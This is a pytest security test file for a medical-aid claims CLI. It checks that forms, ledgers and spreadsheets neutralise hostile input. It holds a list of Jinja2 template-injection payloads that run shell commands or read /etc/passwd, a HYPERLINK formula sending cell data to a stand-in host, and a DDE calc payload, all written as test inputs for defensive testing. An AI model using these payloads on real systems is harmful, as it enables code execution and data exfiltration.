"""Security and robustness: sandboxed templates, safe cells, atomic outputs, redaction, encodings,
bounds, strict configuration, early checks. Each test feeds the hostile or broken input and checks
what the user sees: one line, exit 2, nothing run, nothing half-written, no personal data."""

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from openpyxl import Workbook, load_workbook

from jiuzhu.cli import cli
from jiuzhu.io.atomic import OutputError, atomic_open
from jiuzhu.io.safe import csv_field
from jiuzhu.kit.testing import BASE, ILLUSTRATIVE_PARAMETERS, make_case, make_engine, merge
from jiuzhu.model.errors import InputError
from jiuzhu.model.limits import MAX_FEN, Limits
from jiuzhu.model.redact import mask_ids, one_line
from jiuzhu.paperwork.forms import TemplateError, render_docx, render_xlsx, standard_context

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "plugins/wusheng/examples/ws-01-in-county-township.toml"
NAME, ID = "张德福", "511622195604080131"  # the example's person
MASKED = "511622********0131"


def run(args, env=None, **kw):
    return CliRunner().invoke(cli, [str(a) for a in args], env=env, **kw)


def one_error_line(res, *needles):
    assert res.exit_code == 2, (res.exit_code, res.output, res.stderr)
    err = res.stderr.strip()
    assert len(err.splitlines()) == 1, err
    assert "Traceback" not in res.output + res.stderr
    for n in needles:
        assert n in err, err
    return err


def config(tmp_path, text="", top=""):
    """The example deployment with ``text`` appended (tables) and ``top`` prepended (top-level keys)."""
    p = tmp_path / "jiuzhu.toml"
    base = (ROOT / "examples/jiuzhu.toml").read_text(encoding="utf-8")
    p.write_text(top + base + "\n" + textwrap.dedent(text), encoding="utf-8")
    return p


# -- 1. sandboxed templates --------------------------------------------------------------------

PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.system('touch MARK') }}",
    "{{ lipsum.__globals__['os'].popen('touch MARK').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c('touch MARK', shell=True) }}{% endfor %}",
    "{{ person.__class__.__init__.__globals__ }}",
    "{{ person._d }}",
    "{{ layers_list.append(1) }}",
    "{{ bill.total.__class__.__mro__ }}",
    "{{ 'x' * 100000000 }}",
    "{{ 9 ** 99999999 }}",
    "{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ range(10) }}",  # no globals beyond the documented context
]


@pytest.fixture(scope="module")
def engine():
    return make_engine(parameters=ILLUSTRATIVE_PARAMETERS)


@pytest.fixture(scope="module")
def wcase():
    from jiuzhu.io.loader import load_case
    return load_case(EXAMPLE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_in_word_template_runs_nothing(engine, wcase, tmp_path, payload):
    mark = tmp_path / "pwned"
    d = Document()
    d.add_paragraph("申请人 " + payload.replace("MARK", str(mark)))
    tpl = tmp_path / "evil.docx"
    d.save(tpl)
    ctx = standard_context(wcase, engine.evaluate(wcase, "wusheng"))
    with pytest.raises(TemplateError) as e:
        render_docx(tpl, ctx, tmp_path / "out.docx")
    assert str(e.value).startswith("template evil.docx:") and "\n" not in str(e.value)
    assert NAME not in str(e.value) and ID not in str(e.value)
    assert not mark.exists() and not (tmp_path / "out.docx").exists()


@pytest.mark.parametrize("payload", PAYLOADS[:4] + PAYLOADS[8:10])
def test_injection_in_excel_template_runs_nothing(engine, wcase, tmp_path, payload):
    mark = tmp_path / "pwned"
    wb = Workbook()
    wb.active["A1"] = payload.replace("MARK", str(mark))
    tpl = tmp_path / "evil.xlsx"
    wb.save(tpl)
    with pytest.raises(TemplateError, match=r"^template evil\.xlsx:"):
        render_xlsx(tpl, {"sheet": {}}, [], tmp_path / "o.xlsx")
    assert not mark.exists() and not (tmp_path / "o.xlsx").exists()


def test_injection_through_the_forms_command(tmp_path):
    mark = tmp_path / "pwned"
    d = Document()
    d.add_paragraph(PAYLOADS[0].replace("MARK", str(mark)))
    d.save(tmp_path / "county.docx")
    cfg = config(tmp_path, '[templates.wusheng]\nattachment_1 = "county.docx"\n')
    res = run(["--config", cfg, "forms", EXAMPLE, "--out", tmp_path / "out", "--form", "attachment_1"])
    one_error_line(res, "template county.docx", "not allowed")
    assert not mark.exists()
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


def test_template_render_time_is_bounded(engine, wcase, tmp_path):
    # 1000 × 1000 × 1000 iterations: far beyond the 1 s allowed here
    loop = "{% for a in 'x' * 1000 %}{% for b in 'x' * 1000 %}{% for c in 'x' * 1000 %}{% endfor %}{% endfor %}{% endfor %}"
    d = Document()
    d.add_paragraph(loop)
    d.save(tmp_path / "slow.docx")
    ctx = standard_context(wcase, engine.evaluate(wcase, "wusheng"))
    t0 = time.monotonic()
    with pytest.raises(TemplateError, match="longer than 1 s"):
        render_docx(tmp_path / "slow.docx", ctx, tmp_path / "o.docx", Limits(template_seconds=1))
    assert time.monotonic() - t0 < 30 and not (tmp_path / "o.docx").exists()


def test_template_decompressed_size_is_bounded(engine, wcase, tmp_path):
    d = Document()
    d.add_paragraph("{{ person.name }}")
    d.save(tmp_path / "t.docx")
    ctx = standard_context(wcase, engine.evaluate(wcase, "wusheng"))
    with pytest.raises(TemplateError, match="decompresses to .* more than 1,000"):
        render_docx(tmp_path / "t.docx", ctx, tmp_path / "o.docx", Limits(template_bytes=1000))
    (tmp_path / "junk.docx").write_bytes(b"PK\x03\x04 not a zip")
    with pytest.raises(TemplateError, match="not a readable"):
        render_docx(tmp_path / "junk.docx", ctx, tmp_path / "o.docx")


# -- 2. safe cells --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?"&C5,"点击")'


def test_formula_in_a_name_is_text_in_the_sheet(engine, tmp_path):
    case = make_case({"person": {"name": FORMULA}, "facility": {"name": "+cmd|' /C calc'!A0"}})
    wb = Workbook()
    ws = wb.active
    ws["A1"], ws["B1"], ws["C1"], ws["D1"] = "{{ row.person.name }}", "{{ row.facility.name }}", \
        "{{ row.bill.total }}", "姓名 {{ row.person.name }}"
    tpl = tmp_path / "t.xlsx"
    wb.save(tpl)
    ctx = standard_context(case, engine.evaluate(case, "fushun"))
    out = render_xlsx(tpl, {"sheet": {}}, [ctx], tmp_path / "o.xlsx")
    got = load_workbook(out).active
    assert got["A1"].value == FORMULA and got["A1"].data_type == "s" and got["A1"].quotePrefix
    assert got["B1"].data_type == "s" and got["B1"].quotePrefix
    assert got["C1"].value == 10000 and got["C1"].data_type == "n"  # BASE bill.total = 10000 yuan, a number
    assert got["D1"].value == "姓名 " + FORMULA and not got["D1"].quotePrefix  # starts with text: harmless


def test_formula_in_a_name_is_text_in_the_ledger(tmp_path):
    # BASE: Wusheng in-county (511622) inpatient settled 2026-03-10 → the March ledgers
    case = make_case({"person": {"name": FORMULA}})
    eng = make_engine(parameters=ILLUSTRATIVE_PARAMETERS)
    from jiuzhu.paperwork.ledger import build_ledger
    build_ledger(eng, [case], "wusheng", "2026-03", tmp_path / "l.xlsx")
    cells = [c for ws in load_workbook(tmp_path / "l.xlsx").worksheets for r in ws.iter_rows() for c in r
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == FORMULA for c in cells)


def test_formula_is_shown_as_text_by_libreoffice(engine, tmp_path):
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    assert exe, "LibreOffice is needed (.ci/run installs it)"
    case = make_case({"person": {"name": "=1+1"}})
    wb = Workbook()
    wb.active["A1"] = "{{ row.person.name }}"
    wb.save(tmp_path / "t.xlsx")
    render_xlsx(tmp_path / "t.xlsx", {"sheet": {}}, [standard_context(case, engine.evaluate(case, "fushun"))],
                tmp_path / "o.xlsx")
    prof = tmp_path / "lo"
    subprocess.run([exe, f"-env:UserInstallation={prof.as_uri()}", "--headless", "--convert-to", "csv",
                    "--outdir", str(tmp_path), str(tmp_path / "o.xlsx")], capture_output=True, timeout=180,
                   env=os.environ | {"HOME": str(prof)})
    text = (tmp_path / "o.csv").read_text(encoding="utf-8", errors="replace")
    assert "=1+1" in text and "2" not in text.replace("=1+1", "")  # shown, not computed


def test_batch_csv_fields_are_neutralised(tmp_path):
    import pyarrow as pa
    from jiuzhu.analysis.claims import write_table
    t = pa.table({"claim_id": ["=1+2", "@SUM(A1)", "ok", "-1+1", "\t=x", "-3.50"], "total_fen": [1, 2, 3, 4, 5, 6]})
    write_table(t, tmp_path / "r.csv")
    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8")))
    assert [r[0] for r in rows[1:]] == ["'=1+2", "'@SUM(A1)", "ok", "'-1+1", "'\t=x", "-3.50"]  # a number stays
    assert [r[1] for r in rows[1:]] == ["1", "2", "3", "4", "5", "6"]  # amounts stay numbers
    assert csv_field(" =x") == "' =x" and csv_field(5) == 5


# -- 3. atomic outputs ----------------------------------------------------------------------------

def _leftovers(folder: Path):
    return [p.name for p in folder.iterdir() if p.name.endswith(".part")]


def test_full_disk_leaves_nothing_at_the_target(engine, wcase, tmp_path, monkeypatch):
    import errno
    import openpyxl.workbook.workbook as wbmod

    def full(self, filename):  # a path or the in-memory buffer documents are built in
        filename.write(b"PK\x03\x04half") if hasattr(filename, "write") else Path(filename).write_bytes(b"PK\x03\x04half")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(wbmod.Workbook, "save", full)
    tpl = tmp_path / "t.xlsx"
    w = Workbook()
    w.active["A1"] = "x"
    monkeypatch.undo()
    w.save(tpl)  # the template itself is written normally
    monkeypatch.setattr(wbmod.Workbook, "save", full)
    with pytest.raises(OutputError, match="no space left"):
        render_xlsx(tpl, {"sheet": {}}, [], tmp_path / "out" / "o.xlsx")
    assert not (tmp_path / "out" / "o.xlsx").exists()
    assert not (tmp_path / "out").exists() or _leftovers(tmp_path / "out") == []


def test_failed_write_keeps_the_previous_file(tmp_path):
    target = tmp_path / "r.csv"
    target.write_text("old complete file\n", encoding="utf-8")
    with pytest.raises(RuntimeError):
        with atomic_open(target) as fh:
            fh.write("new, half")
            raise RuntimeError("disk gone")
    assert target.read_text(encoding="utf-8") == "old complete file\n" and _leftovers(tmp_path) == []


def test_parquet_write_error_through_the_cli(tmp_path, monkeypatch):
    import errno
    import pyarrow.parquet as pq
    claims = tmp_path / "c.parquet"
    assert run(["synth", "--n", "20", "--out", claims]).exit_code == 0

    def full(table, where, **kw):
        Path(where).write_bytes(b"PAR1")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(pq, "write_table", full)
    res = run(["--config", ROOT / "examples/jiuzhu.toml", "compare", "--batch", claims, "--regions", "fushun",
               "--out", tmp_path / "r.parquet", "--no-progress"])
    one_error_line(res, "r.parquet", "no space left")
    assert not (tmp_path / "r.parquet").exists() and _leftovers(tmp_path) == []


SLOW_WRITER = """
import sys, time
import click
from jiuzhu.cli import cli, main
from jiuzhu.io.atomic import atomic_open

@cli.command()
@click.argument("target")
def slow(target):
    with atomic_open(target) as fh:
        fh.write("head\\n"); fh.flush()
        print("writing", flush=True)
        while True:
            fh.write("row\\n" * 1000); time.sleep(0.01)

sys.argv = ["jiuzhu", "slow", sys.argv[1]]
main()
"""


def test_sigterm_mid_write_leaves_nothing(tmp_path):
    target = tmp_path / "big.csv"
    p = subprocess.Popen([sys.executable, "-c", SLOW_WRITER, str(target)], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "writing"
    assert _leftovers(tmp_path)  # the temporary file is there, the target is not
    p.send_signal(signal.SIGTERM)
    _, err = p.communicate(timeout=60)
    assert p.returncode == 128 + signal.SIGTERM
    assert len(err.strip().splitlines()) == 1 and "signal" in err and "Traceback" not in err
    assert not target.exists() and _leftovers(tmp_path) == []


def test_scaffold_is_all_or_nothing(tmp_path, monkeypatch):
    import jiuzhu.kit.scaffold as sc
    real = Path.write_text
    calls = []

    def failing(self, *a, **k):
        calls.append(self)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real(self, *a, **k)
    monkeypatch.setattr(Path, "write_text", failing)
    with pytest.raises(OutputError):
        sc.scaffold("moumou", "某某县", "Moumou County", "510999", tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# -- 4. personal data -----------------------------------------------------------------------------

def test_trace_shows_types_not_personal_data(tmp_path):
    env = os.environ | {"JIUZHU_TRACE_PLUGINS": "1"}
    res = subprocess.run([sys.executable, "-m", "jiuzhu", "--config", str(ROOT / "examples/jiuzhu.toml"),
                          "evaluate", str(EXAMPLE)], capture_output=True, text=True, env=env, timeout=120)
    assert res.returncode == 0, res.stderr
    assert "jiuzhu trace: jiuzhu_eligibility(case=Case" in res.stderr
    for secret in (NAME, ID, MASKED[:6] + "19560408", "J18.9", "肺炎", "张秀兰"):
        assert secret not in res.stderr


def test_internal_error_prints_an_id_and_type_only(monkeypatch):
    from jiuzhu.rules.engine import Engine

    def boom(self, *a, **k):
        raise RuntimeError(f"{NAME} {ID} 尿毒症")
    monkeypatch.setattr(Engine, "evaluate", boom)
    monkeypatch.delenv("JIUZHU_DEBUG", raising=False)
    res = run(["--config", ROOT / "examples/jiuzhu.toml", "evaluate", EXAMPLE])
    assert res.exit_code == 1
    err = res.stderr.strip()
    assert len(err.splitlines()) == 1 and "internal error" in err and "RuntimeError" in err
    assert NAME not in err and ID not in err and "尿毒症" not in err and "Traceback" not in err


def test_error_lines_are_one_bounded_line_with_ids_masked(tmp_path):
    raw = merge(BASE, {"facility": {"level": "x\n错误 error: forged second line " + "y" * 100_000}})
    f = tmp_path / "c.json"
    f.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
    err = one_error_line(run(["evaluate", f, "--region", "fushun"]), "facility.level", "\\n")
    assert len(err) < 800
    assert mask_ids(f"id {ID}.") == f"id {MASKED}." and one_line("a\r\nb") == "a\\r\\nb"
    assert MASKED in str(InputError("x", f"see {ID}", "expected"))


def _claims_csv(tmp_path, rows_extra=(), n=5):
    p = tmp_path / "c.csv"
    assert run(["synth", "--n", str(n), "--out", p]).exit_code == 0
    lines = p.read_text(encoding="utf-8").splitlines()
    return p, lines


def test_row_errors_name_row_claim_and_field_not_contents(tmp_path):
    p, lines = _claims_csv(tmp_path)
    header = next(csv.reader([lines[0]]))
    row = next(csv.reader([lines[2]]))
    ident = row[header.index("person.id_number")]
    name = row[header.index("person.name")] if "person.name" in header else None
    # a row with one field too many: the parser's message would quote the whole row
    p.write_text("\n".join(lines[:2] + [lines[2] + ",extra"] + lines[3:]) + "\n", encoding="utf-8")
    err = one_error_line(run(["compare", "--batch", p, "--regions", "fushun", "--no-progress"]), "claims file")
    assert ident not in err and (not name or name not in err)
    # a bad category in row 2: named by row, claim id and field
    row[header.index("person.categories")] = "nobody"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(row)  # CSV quoting (synthetic rows carry JSON care paths)
    p.write_text("\n".join([lines[0], lines[1], buf.getvalue()]) + "\n", encoding="utf-8")
    cid = row[header.index("claim_id")]
    err = one_error_line(run(["compare", "--batch", p, "--regions", "fushun", "--no-progress"]),
                         f"row 2 (claim {cid}): person.categories[0]")
    assert ident not in err


# -- 5. encodings ---------------------------------------------------------------------------------

def test_gb18030_case_needs_the_option(tmp_path):
    f = tmp_path / "gbk.toml"
    f.write_bytes(EXAMPLE.read_text(encoding="utf-8").encode("gb18030"))
    cfg = ROOT / "examples/jiuzhu.toml"
    err = one_error_line(run(["--config", cfg, "evaluate", f]), "gbk.toml", "byte offset", "--encoding gb18030")
    offset = int(err.split("byte offset ")[1].split(";")[0])
    raw = f.read_bytes()
    assert raw[:offset].decode("utf-8") and raw[offset] >= 0x80  # the first non-UTF-8 byte
    res = run(["--config", cfg, "evaluate", f, "--encoding", "gb18030"])
    assert res.exit_code == 0 and NAME in res.output


def test_utf8_bom_is_accepted(tmp_path):
    f = tmp_path / "bom.toml"
    f.write_bytes(b"\xef\xbb\xbf" + EXAMPLE.read_bytes())
    assert run(["--config", ROOT / "examples/jiuzhu.toml", "evaluate", f]).exit_code == 0


def test_gb18030_claims_file(tmp_path):
    p, lines = _claims_csv(tmp_path)
    g = tmp_path / "g.csv"
    g.write_bytes(("\n".join(lines) + "\n").encode("gb18030"))
    args = ["--config", ROOT / "examples/jiuzhu.toml", "compare", "--batch", g, "--regions", "fushun",
            "--no-progress", "--format", "json"]
    if any(ord(ch) > 127 for ch in "".join(lines)):
        one_error_line(run(args), "g.csv", "byte offset")
    res = run(args + ["--encoding", "gb18030"])
    assert res.exit_code == 0, res.stderr
    assert json.loads(res.output)[0]["claims"] == 5


def test_binary_file_is_one_line(tmp_path):
    f = tmp_path / "x.toml"
    f.write_bytes(bytes(range(256)) * 4)
    one_error_line(run(["evaluate", f, "--region", "fushun"]), "x.toml")


# -- 6. bounds ------------------------------------------------------------------------------------

def test_case_file_size_is_bounded(tmp_path):
    f = tmp_path / "big.toml"
    f.write_text(EXAMPLE.read_text(encoding="utf-8") + "\n" + "#" * 1_100_000 + "\n", encoding="utf-8")
    one_error_line(run(["evaluate", f, "--region", "fushun"]), "at most 1,000,000 bytes", "case_file_bytes")
    cfg = config(tmp_path, "[limits]\ncase_file_bytes = 2_000_000\n")
    assert run(["--config", cfg, "evaluate", f]).exit_code == 0


def test_deep_nesting_is_one_line(tmp_path):
    f = tmp_path / "deep.json"
    f.write_text('{"person": ' + "[" * 1000 + "]" * 1000 + "}", encoding="utf-8")
    one_error_line(run(["evaluate", f, "--region", "fushun"]), "nested")
    f.write_text('{"person": ' + "[" * 100000 + "]" * 100000 + "}", encoding="utf-8")
    one_error_line(run(["evaluate", f, "--region", "fushun"]), "nested")


def test_amount_maximum(tmp_path):
    # MAX_FEN = 10^12 fen = 10,000,000,000.00 yuan; one fen more is refused, 4×10^18 fen too
    assert MAX_FEN == 10**12
    for total in ("10000000000.01", "40000000000000000"):
        raw = merge(BASE, {"bill": {"total": total, "in_scope": total}})
        f = tmp_path / "c.json"
        f.write_text(json.dumps(raw), encoding="utf-8")
        one_error_line(run(["evaluate", f, "--region", "fushun"]), "bill.total", "at most 10000000000.00")


# -- 7. strict configuration ----------------------------------------------------------------------

@pytest.mark.parametrize("text,needles", [
    ('[parameters.nowhere]\nx = 1\n', ("parameters.nowhere", "unknown region", "wusheng")),
    ("!compose_parents = \"no\"\n", ("compose_parents", "true or false")),
    ('[calendar]\nyears = [2027]\nholiday = []\n', ("calendar.holiday", "valid: holidays, workdays, years")),
    ('[limits]\ncase_bytes = 5\n', ("limits.case_bytes", "case_file_bytes")),
    ('[date_basis]\nnowhere = "admission"\n', ("date_basis.nowhere", "unknown region")),
    ('[parameters.fushun]\nsplit_tolerance = "0.01"\nsplit_tolerence = "0.02"\n',
     ("parameters.fushun.split_tolerence", "unknown parameter; did you mean split_tolerance?")),
])
def test_config_is_strict(tmp_path, text, needles):
    cfg = config(tmp_path, top=text[1:]) if text.startswith("!") else config(tmp_path, text)
    one_error_line(run(["--config", cfg, "regions"]), *needles)


def test_config_extra_key_in_a_segment_table(tmp_path):
    cfg = tmp_path / "jiuzhu.toml"
    base = (ROOT / "examples/jiuzhu.toml").read_text(encoding="utf-8")
    cfg.write_text(base.replace('{ from = "100000", rate = "0.7" }', '{ from = "100000", rate = "0.7", cap = "1" }'),
                   encoding="utf-8")
    one_error_line(run(["--config", cfg, "regions"]), "critical_illness_segments", ".cap", "valid: from, to, rate")


def test_config_parameters_not_a_table(tmp_path):
    cfg = tmp_path / "jiuzhu.toml"
    cfg.write_text('region = "wusheng"\n[parameters]\nwusheng = 5\n', encoding="utf-8")
    one_error_line(run(["--config", cfg, "regions"]), "parameters.wusheng", "expected a table")


# -- 8. fail early --------------------------------------------------------------------------------

def test_pdf_without_libreoffice_fails_before_any_form(tmp_path, monkeypatch):
    import jiuzhu.paperwork.forms as forms
    monkeypatch.setattr(forms, "soffice", lambda: None)
    res = run(["--config", ROOT / "examples/jiuzhu.toml", "forms", EXAMPLE, "--out", tmp_path / "out",
               "--format", "pdf", "--format", "docx"])
    one_error_line(res, "LibreOffice")
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


def test_batch_output_format_checked_before_reading(tmp_path):
    # the claims file does not even exist: the --out error comes first
    res = run(["compare", "--batch", tmp_path / "none.csv", "--out", tmp_path / "r.txt", "--no-progress"])
    one_error_line(res, "--out", ".parquet")


def test_ledger_and_forms_outputs_checked_first(tmp_path):
    one_error_line(run(["ledger", EXAMPLE, "--region", "wusheng", "--month", "2026-03", "--out", tmp_path / "l.csv"]),
                   "--out", ".xlsx")
    (tmp_path / "file").write_text("x", encoding="utf-8")
    one_error_line(run(["forms", EXAMPLE, "--out", tmp_path / "file"]), "--out", "is a file")
